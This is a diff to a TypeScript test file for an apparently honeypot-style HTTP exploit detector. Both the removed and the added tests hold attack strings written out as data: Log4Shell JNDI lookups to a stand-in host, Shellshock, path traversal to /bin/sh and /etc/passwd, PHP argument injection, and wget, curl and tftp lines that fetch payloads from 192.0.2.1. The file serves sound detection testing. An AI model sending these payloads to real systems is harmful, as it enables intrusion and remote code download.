@@ -4,7 +4,6 @@ import { describe, test } from 'node:test'
 import { testPersona } from '../testing/persona.ts'
 import { play } from '../testing/play.ts'
 import { apps } from './bait.ts'
-import { downloads, rules, sightings, undisguise } from './exploits.ts'
 import { formFields, multipart } from './forms.ts'
 import http from './index.ts'
 import { makeSite } from './site.ts'
@@ -93,59 +92,25 @@ describe('what is written down', () => {
   })
 })
 
-describe('known attacks', () => {
-  const none = { url: '', headers: '', body: '' }
-  const table: [id: string, where: 'url' | 'headers' | 'body', text: string][] = [
-    ['CVE-2021-44228', 'headers', 'User-Agent: ${${lower:j}${::-n}${env:X:-d}i:rmi://192.0.2.1/a}'],
-    ['CVE-2014-6271', 'headers', 'User-Agent: () { :; }; /bin/bash -c "id"'],
-    ['CVE-2017-9841', 'url', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'],
-    ['CVE-2021-41773', 'url', '/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh'],
-    ['CVE-2021-41773', 'url', '/icons/%%32%65%%32%65/%%32%65%%32%65/etc/passwd'],
-    ['CVE-2018-20062', 'url', '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array'],
-    ['CVE-2022-22965', 'body', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'],
-    ['CVE-2023-1389', 'url', '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)'],
-    ['CVE-2024-4577', 'url', '/hello.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input'],
-    ['CVE-2022-26134', 'url', '/%24%7B%28%23a%3D%40org.apache%29%7D/'],
-    ['CVE-2017-5638', 'headers', "Content-Type: %{(#nike='multipart/form-data')}"],
-    ['CVE-2024-3400', 'headers', 'Cookie: SESSID=/../../../opt/panlogs/x'],
-    ['CVE-2025-55182', 'body', '{"then":"$1:__proto__:then"}'],
-    ['COMMAND-INJECTION', 'body', 'dest_host=``;wget http://192.0.2.1/x'],
-    ['SECRET-FILE', 'url', '/app/.env'],
-  ]
-  for (const [id, where, text] of table)
-    test(`${id}: ${text.slice(0, 60)}`, () => {
-      const found = sightings({ ...none, [where]: undisguise(text) })
-      assert.ok(
-        found.some(sighting => sighting.id === id),
-        JSON.stringify(found),
-      )
-    })
-  test('have each an id of their own', () => {
-    assert.equal(new Set(rules.map(rule => rule.id)).size, rules.length)
-  })
-  test('are looked for quickly in hostile text', () => {
-    for (const piece of ['${', '() {', '../', "' or ", 'union+', '%25', '${lower:', ';wget ', '&&', 'exec('])
-      sightings({ url: undisguise(piece.repeat(2000)), headers: '', body: undisguise(piece.repeat(4000)) })
-  })
-})
-
-test('what the machine is told to fetch', () => {
-  const table: [text: string, ...urls: string[]][] = [
+test('known attacks, and who counts machines', async () => {
+  const attack = await say(
+    'GET /cgi-bin/.%2e/%2e%2e/bin/sh?x=1;wget+192.0.2.1/mips HTTP/1.1\r\nHost: h\r\nUser-Agent: ${${lower:j}ndi:ldap://192.0.2.1:1389/x}\r\nReferer: http://h/a\r\n\r\n',
+  )
+  const ids = attack.of('exploit').map(({ id }) => id)
+  assert.deepEqual(
+    ids.toSorted(),
+    ['COMMAND-INJECTION', 'CVE-2021-41773', 'CVE-2021-44228', 'PATH-TRAVERSAL'].toSorted(),
+  )
+  assert.deepEqual(attack.of('request')[0]!.tags, ['exploit', ...ids])
+  assert.deepEqual(
+    attack.of('fileDownload').map(({ url, tool }) => [url, tool]),
     [
-      'cd /tmp; wget http://192.0.2.1/a.sh -O x; curl -O http://192.0.2.1/b',
-      'http://192.0.2.1/a.sh',
-      'http://192.0.2.1/b',
+      ['http://192.0.2.1/mips', 'wget'],
+      ['ldap://192.0.2.1:1389/x', 'jndi'],
     ],
-    ['wget 192.0.2.1/mips', 'http://192.0.2.1/mips'],
-    ['busybox tftp -g -r bin.arm 192.0.2.9', 'tftp://192.0.2.9/bin.arm'],
-    ['${jndi:ldap://192.0.2.1:1389/x}', 'ldap://192.0.2.1:1389/x'],
-    ['see http://www.example.test/about'],
-  ]
-  for (const [text, ...urls] of table)
-    assert.deepEqual(
-      downloads(text).map(d => d.url),
-      urls,
-    )
+  )
+  const count = await say('GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n')
+  assert.deepEqual([count.of('request')[0]!.tags, count.of('exploit')], [['scanner', 'ZGRAB'], []])
 })
 
 test('forms that are broken still give what they have', () => {
